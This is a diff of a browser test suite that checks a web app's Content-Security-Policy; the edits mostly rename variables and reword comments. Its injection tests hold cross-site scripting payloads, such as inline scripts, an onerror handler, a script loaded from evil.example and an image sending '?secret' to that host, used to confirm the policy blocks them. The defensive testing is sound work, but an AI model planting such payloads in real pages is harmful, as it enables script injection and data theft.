@@ -1,4 +1,4 @@
-/** What a browser is told to refuse: no page does what it forbids, and it holds when something got into a page's HTML. */
+/** The Content-Security-Policy in a real browser: no page violates it, and it stops code that was injected into a page's HTML. */
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
@@ -9,9 +9,9 @@ import { startServer, type TestServer } from '../server/testing/server';
 
 declare global {
   interface Window {
-    /** Directives that were violated, as the page was told. */
+    /** The directives that the page saw violated. */
     violations: string[];
-    /** What got into the page and ran. */
+    /** Injected code that ran. */
     ran?: string[];
   }
 }
@@ -19,10 +19,10 @@ declare global {
 let server: TestServer;
 let browser: Browser;
 let page: Page;
-let complaints: string[];
+let browserErrors: string[];
 
 beforeAll(async () => {
-  // Pages alone: no pair is started.
+  // Only pages: the server starts no pair.
   server = await startServer({ environment: { LAB_POOL_SIZE: '0' } });
   browser = await launchBrowser();
 }, labSetUpTimeoutMs);
@@ -34,10 +34,10 @@ afterAll(async () => {
 
 beforeEach(async () => {
   page = await (await browser.newContext()).newPage();
-  complaints = [];
-  page.on('pageerror', (error) => complaints.push(error.message));
+  browserErrors = [];
+  page.on('pageerror', (error) => browserErrors.push(error.message));
   page.on('console', (message) => {
-    if (message.type() === 'error') complaints.push(message.text());
+    if (message.type() === 'error') browserErrors.push(message.text());
   });
   await page.addInitScript(() => {
     window.violations = [];
@@ -53,7 +53,7 @@ afterEach(async () => {
 
 const violations = () => page.evaluate(() => window.violations);
 
-/** React has taken over the page: its scripts were let run. */
+/** Waits until React has hydrated the page, which shows that its scripts may run. */
 async function untilInteractive(): Promise<void> {
   await page.waitForFunction(() => Object.keys(document.body).some((key) => key.startsWith('__react')));
 }
@@ -62,23 +62,25 @@ const lessonPath = '/lessons/live-migration';
 const pages: [path: string, status: number][] = [
   ['/', 200],
   [lessonPath, 200],
-  // Rendered when it is asked for, unlike all the others.
+  // Rendered on request, unlike all the others.
   ['/watch/there-is-no-such-grant', 200],
   ['/continue/there-is-no-such-key', 200],
   ['/lessons/there-is-none', 404],
   ['/there/is/none', 404],
 ];
 
-test.each(pages)('%s runs and does nothing that its policy forbids', async (path, status) => {
+test.each(pages)('%s runs and violates no directive of its policy', async (path, status) => {
   const response = await page.goto(`${server.url}${path}`);
   expect(response?.status()).toBe(status);
   await untilInteractive();
-  // A status that says no is a console error of the browser's.
-  expect(complaints.filter((text) => !/the server responded with a status of 40[34]/.test(text))).toEqual([]);
+  // Browsers log a refused request as a console error.
+  expect(browserErrors.filter((text) => !/the server responded with a status of 40[34]/.test(text))).toEqual(
+    [],
+  );
   expect(await violations()).toEqual([]);
 });
 
-test('going from page to page does nothing that it forbids', async () => {
+test('navigating between pages violates no directive', async () => {
   await page.goto(server.url);
   await untilInteractive();
   await page.locator(`a[href="${lessonPath}"]`).first().click();
@@ -86,7 +88,7 @@ test('going from page to page does nothing that it forbids', async () => {
   await page.getByRole('button', { name: /start/i }).first().waitFor();
   await page.goBack();
   await page.locator(`a[href="${lessonPath}"]`).first().waitFor();
-  expect(complaints).toEqual([]);
+  expect(browserErrors).toEqual([]);
   expect(await violations()).toEqual([]);
 });
 
@@ -94,7 +96,7 @@ describe('headers', () => {
   const ofPage = async (path: string) => (await fetch(`${server.url}${path}`)).headers;
 
   test.each([...pages.map(([path]) => path), '/theme.js', '/icon.svg', '/api/lab', '/api/none'])(
-    '%s has those of every answer',
+    '%s has the headers of every answer',
     async (path) => {
       const headers = await ofPage(path);
       expect(headers.get('x-content-type-options')).toBe('nosniff');
@@ -107,7 +109,7 @@ describe('headers', () => {
     },
   );
 
-  test('of a page allow no script of another origin, no eval, and no inline script but by hash or nonce', async () => {
+  test('of a page allow no scripts of other origins, no eval, and inline scripts only by hash or nonce', async () => {
     const policy = (await ofPage(lessonPath)).get('content-security-policy') ?? '';
     const directives = new Map(
       policy.split('; ').map((directive): [string, string[]] => {
@@ -127,15 +129,15 @@ describe('headers', () => {
     for (const hash of hashes) expect(hash).toMatch(/^'sha256-[\w+/]{43}='$/);
   });
 
-  test('have another nonce each time', async () => {
+  test('have a new nonce each time', async () => {
     const nonce = async () =>
       /'nonce-([^']+)'/.exec((await ofPage('/')).get('content-security-policy') ?? '')?.[1];
     expect(await nonce()).not.toBe(await nonce());
   });
 });
 
-describe('what got into a page’s HTML', () => {
-  /** Opens a page whose HTML has more in it than the server sent, under the headers that the server sent. */
+describe('code injected into a page’s HTML', () => {
+  /** Opens a page with injected HTML, under the headers that the server sent. */
   async function openWith(injected: string): Promise<void> {
     await page.route(`${server.url}${lessonPath}`, async (route) => {
       const response = await route.fetch();
@@ -150,7 +152,11 @@ describe('what got into a page’s HTML', () => {
 
   test.each([
     ['an inline script', `<script>${run}</script>`, 'script-src-elem inline'],
-    ['one with a nonce of its own', `<script nonce="AAAA">${run}</script>`, 'script-src-elem inline'],
+    [
+      'an inline script with an invented nonce',
+      `<script nonce="AAAA">${run}</script>`,
+      'script-src-elem inline',
+    ],
     ['an event handler', `<img alt="" src="/none" onerror="${run}">`, 'script-src-attr inline'],
     [
       'a script of another site',
@@ -158,7 +164,7 @@ describe('what got into a page’s HTML', () => {
       'script-src-elem https://evil.example/x.js',
     ],
     [
-      'a script in its address',
+      'a script in a data URL',
       `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
       'script-src-elem data',
     ],
@@ -173,9 +179,9 @@ describe('what got into a page’s HTML', () => {
       'frame-src https://evil.example',
     ],
     ['an object', '<object data="/icon.svg"></object>', 'object-src'],
-    ['another base for every link', '<base href="https://evil.example/">', 'base-uri https://evil.example/'],
+    ['another base URL', '<base href="https://evil.example/">', 'base-uri https://evil.example/'],
     [
-      'a picture that tells another site',
+      'a picture that leaks to another site',
       '<img alt="" src="https://evil.example/?secret">',
       'img-src https://evil.example/?secret',
     ],
@@ -186,8 +192,8 @@ describe('what got into a page’s HTML', () => {
     ],
   ])('%s does nothing', async (_, injected, violated) => {
     await openWith(injected);
-    // A frame's violations are its own document's; the console has them all.
-    await expect.poll(async () => [...(await violations()), ...complaints].join('\n')).toContain(violated);
+    // A frame's violations belong to its own document, but the console has them all.
+    await expect.poll(async () => [...(await violations()), ...browserErrors].join('\n')).toContain(violated);
     expect(await page.evaluate(() => window.ran)).toBeUndefined();
   });
 
@@ -204,13 +210,13 @@ describe('what got into a page’s HTML', () => {
     expect(new URL(page.url()).pathname).toBe(lessonPath);
   });
 
-  test('text becomes no program, and nothing is sent elsewhere', async () => {
+  test('text cannot become code, and nothing goes to other servers', async () => {
     await openWith('<p></p>');
     const failed = await page.evaluate(
       async (port) => {
         const attempts: (() => unknown)[] = [
           () =>
-            // In a task of the page's own: what a debugger evaluates may use eval.
+            // In a task of the page, because code that a debugger evaluates may use eval.
             new Promise((allowed, refused) => {
               setTimeout(() => {
                 try {
@@ -245,7 +251,7 @@ describe('what got into a page’s HTML', () => {
   });
 });
 
-test('no page of another origin shows ours in a frame', async () => {
+test('no page of another origin can frame ours', async () => {
   const other = createServer((_request, response) => {
     response.setHeader('content-type', 'text/html');
     response.end(`<iframe src="${server.url}"></iframe>`);
@@ -254,7 +260,7 @@ test('no page of another origin shows ours in a frame', async () => {
   try {
     await expect.poll(() => other.listening).toBe(true);
     await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}`);
-    await expect.poll(() => complaints.join('\n')).toContain('frame-ancestors');
+    await expect.poll(() => browserErrors.join('\n')).toContain('frame-ancestors');
     expect(page.frames().some((frame) => frame.url().startsWith(server.url))).toBe(false);
   } finally {
     other.close();
